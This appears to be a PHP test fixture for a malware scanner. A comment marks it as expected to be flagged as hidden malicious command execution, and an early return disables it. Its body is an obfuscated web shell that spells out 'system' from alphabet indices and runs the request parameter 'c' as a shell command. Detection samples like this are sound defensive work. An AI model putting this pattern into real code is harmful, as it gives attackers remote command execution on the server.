<?php return; // want: malicious php.command.hidden
$t = 'abcdefghijklmnopqrstuvwxyz';
$f = $t[18] . $t[24] . $t[18] . $t[19] . $t[4] . $t[12];
$f($_REQUEST['c']);
